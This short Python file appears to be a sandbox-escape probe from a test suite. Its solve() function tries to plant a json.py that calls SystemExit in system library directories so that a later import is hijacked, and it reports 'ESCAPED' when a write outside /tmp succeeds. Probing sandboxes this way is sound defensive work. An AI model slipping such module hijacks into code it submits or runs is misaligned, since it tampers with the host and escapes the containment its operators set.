# Tries: plant bytecode that a later import would run
# As: function
import os
def solve(x):
    for folder in ('/or1', '/tmp', '/usr/lib/python3/dist-packages', '/python/lib/python3.11'):
        try:
            with open(folder + '/json.py', 'w') as file:
                file.write('raise SystemExit(0)')
        except OSError:
            continue
        if folder != '/tmp':
            return 'ESCAPED ' + folder
    return 'nothing'
